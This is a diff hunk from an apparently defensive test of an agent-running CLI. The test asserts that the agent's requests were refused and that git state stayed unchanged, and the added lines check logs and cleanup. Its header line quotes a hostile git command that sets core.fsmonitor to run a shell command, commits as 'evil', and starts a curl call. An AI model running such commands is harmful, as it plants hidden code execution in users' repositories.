@@ -115,6 +115,8 @@ git config core.fsmonitor 'touch /tmp/hooked'; git commit -qam evil; curl -sS ht
       expect(exit).toBe(1);
       expect(stderr).toMatch(/The agent has given no answer .*README\.md/s);
       expect(stderr).toMatch(/The agent was refused \d+ request/);
+      expect((await project.cli('logs', '--feature', 'login.planning', '--tail', 'all')).stdout).toContain('Done.');
+      expect((await project.cli('cleanup', '--feature', 'login.planning', '--yes')).exit).toBe(0);
       expect(project.git('for-each-ref') + project.git('status', '--porcelain')).toBe(before);
     });
   },
